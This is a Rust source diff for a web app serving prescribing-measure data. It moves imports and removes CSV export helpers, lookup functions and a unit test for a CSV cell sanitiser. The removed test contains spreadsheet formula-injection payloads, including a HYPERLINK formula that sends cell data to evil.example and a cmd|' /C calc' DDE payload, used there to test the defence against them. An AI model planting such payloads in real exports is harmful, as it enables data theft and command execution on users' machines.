@@ -4,10 +4,10 @@
 use crate::charts::long_month;
 use crate::format::{number, plural};
 use crate::layout::{self, Crumb, summary};
-use crate::{Params, Shared, WebError};
+use crate::params::Params;
+use crate::{Shared, WebError};
 use axum::extract::State;
-use axum::http::header;
-use axum::response::{Html, IntoResponse, Response};
+use axum::response::Html;
 use ipmo_measures::Measure;
 use ipmo_release::{Org, Release, bnf_level_name, level_name};
 use maud::{Markup, html};
@@ -21,41 +21,6 @@ fn footer(r: &Release) -> String {
 
 pub(crate) fn html_page(r: &Release, title: &str, crumbs: &[Crumb], main: Markup) -> Html<String> {
     Html(layout::page(title, crumbs, Some(&footer(r)), main).into_string())
-}
-
-/// A CSV download: header row, then rows; cells are quoted when they need to be.
-pub(crate) fn csv(filename: &str, header_row: &[&str], rows: Vec<Vec<String>>) -> Response {
-    let mut out = header_row.iter().map(|h| csv_cell(h)).collect::<Vec<_>>().join(",");
-    out.push('\n');
-    for r in rows {
-        out.push_str(&r.iter().map(|c| csv_cell(c)).collect::<Vec<_>>().join(","));
-        out.push('\n');
-    }
-    (
-        [
-            (header::CONTENT_TYPE, "text/csv; charset=utf-8".to_string()),
-            (header::CONTENT_DISPOSITION, format!("attachment; filename=\"{filename}\"")),
-        ],
-        out,
-    )
-        .into_response()
-}
-
-/// One CSV cell, safe to open in a spreadsheet: text that a spreadsheet would read as a formula
-/// (starting `=`, `+`, `-`, `@`, tab or CR, as OWASP lists) gets a leading `'`, unless it is just a
-/// number such as `-2.5`; a cell holding a comma, quote, LF or CR is quoted.
-pub(crate) fn csv_cell(c: &str) -> String {
-    let formula = c.starts_with(['=', '+', '-', '@', '\t', '\r']) && c.parse::<f64>().is_err();
-    let c = if formula { format!("'{c}") } else { c.to_string() };
-    if c.contains([',', '"', '\n', '\r']) { format!("\"{}\"", c.replace('"', "\"\"")) } else { c }
-}
-
-pub(crate) fn wants_csv(p: &Params) -> Result<bool, WebError> {
-    match p.get("format") {
-        None | Some("html") => Ok(false),
-        Some("csv") => Ok(true),
-        Some(other) => Err(WebError::BadParameter("format".into(), format!("\"{other}\" is not html or csv"))),
-    }
 }
 
 pub(crate) fn org_link(o: &Org) -> Markup {
@@ -188,7 +153,7 @@ pub async fn search(State(s): State<Shared>, p: Params) -> Result<Html<String>, 
     let shown = &orgs[((page - 1) * SEARCH_PAGE).min(orgs.len())..(page * SEARCH_PAGE).min(orgs.len())];
     let measures = r.search_measures(q);
     let drugs = if q.trim().chars().count() >= 3 { r.bnf_search(q, usize::MAX) } else { Vec::new() };
-    let page_link = |n: usize| format!("/search?q={}&page={n}", crate::urlencode(q));
+    let page_link = |n: usize| format!("/search?q={}&page={n}", crate::params::urlencode(q));
     Ok(html_page(
         r,
         "Search",
@@ -230,7 +195,7 @@ pub async fn search(State(s): State<Shared>, p: Params) -> Result<Html<String>, 
                                  " · " a href=(format!("/analyse?num={code}&den=list-size&level=icb")) { "Analyse" span.visually-hidden { " " (name) } } }
                         }
                     }
-                    @if drugs.len() > SEARCH_DRUGS { p { a href=(format!("/bnf?q={}", crate::urlencode(q))) { "All " (drugs.len()) " BNF entries matching “" (q) "”" } } }
+                    @if drugs.len() > SEARCH_DRUGS { p { a href=(format!("/bnf?q={}", crate::params::urlencode(q))) { "All " (drugs.len()) " BNF entries matching “" (q) "”" } } }
                 }
                 @if !measures.is_empty() {
                     h2 #measures { "Measures" }
@@ -243,72 +208,4 @@ pub async fn search(State(s): State<Shared>, p: Params) -> Result<Html<String>, 
             }
         },
     ))
-}
-
-/// An organisation by code, or the 404 that says there is none.
-pub(crate) fn org_of<'a>(r: &'a Release, code: &str) -> Result<&'a Org, WebError> {
-    r.org(code)
-        .ok_or_else(|| WebError::NotFound(format!("There is no organisation with the code \"{code}\" in this data.")))
-}
-
-/// A number for a CSV cell: full precision, empty when absent.
-pub(crate) fn csv_number(v: Option<f64>) -> String {
-    v.map(|v| v.to_string()).unwrap_or_default()
-}
-
-/// A measure value's numerator, denominator, value and percentile as CSV cells (empty when
-/// there is no value or it is suppressed), in the order every measure CSV gives them.
-pub(crate) fn point_csv(pt: Option<&ipmo_measures::analysis::ValuePoint>) -> [String; 4] {
-    [
-        csv_number(pt.and_then(|x| x.numerator)),
-        csv_number(pt.and_then(|x| x.denominator)),
-        csv_number(pt.and_then(|x| x.value)),
-        csv_number(pt.and_then(|x| x.percentile)),
-    ]
-}
-
-pub(crate) fn measure_of<'a>(r: &'a Release, id: &str) -> Result<&'a Measure, WebError> {
-    r.library
-        .computed()
-        .find(|m| m.id == id)
-        .ok_or_else(|| WebError::NotFound(format!("There is no measure \"{id}\". The home page lists every measure.")))
-}
-
-pub(crate) fn level_param<'a>(p: &'a Params, default: &'a str) -> Result<&'a str, WebError> {
-    known_level("level", p.get("level").unwrap_or(default))
-}
-
-/// `level` when it is one of the stored organisation levels; otherwise a 400 naming `parameter`.
-pub(crate) fn known_level<'a>(parameter: &str, level: &'a str) -> Result<&'a str, WebError> {
-    if ipmo_release::LEVELS.contains(&level) {
-        Ok(level)
-    } else {
-        Err(WebError::BadParameter(
-            parameter.into(),
-            format!("\"{level}\" is not one of {}", ipmo_release::LEVELS.join(", ")),
-        ))
-    }
-}
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    #[test]
-    fn csv_cells_cannot_carry_formulas_or_split_rows() {
-        assert_eq!(
-            csv_cell(r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#),
-            r#""'=HYPERLINK(""http://evil.example/?""&A1,""click"")""#
-        );
-        assert_eq!(csv_cell("-2+3+cmd|' /C calc'!A0"), "'-2+3+cmd|' /C calc'!A0");
-        assert_eq!(csv_cell("@SUM(A1)"), "'@SUM(A1)");
-        assert_eq!(csv_cell("+44 20"), "'+44 20");
-        assert_eq!(csv_cell("\tx"), "'\tx");
-        assert_eq!(csv_cell("CRtest\r=2+2"), "\"CRtest\r=2+2\"");
-        // Numbers, negative ones included, stay numbers.
-        assert_eq!(
-            (csv_cell("-2.5"), csv_cell("1e3"), csv_cell("St Mary's")),
-            ("-2.5".into(), "1e3".into(), "St Mary's".into())
-        );
-    }
 }
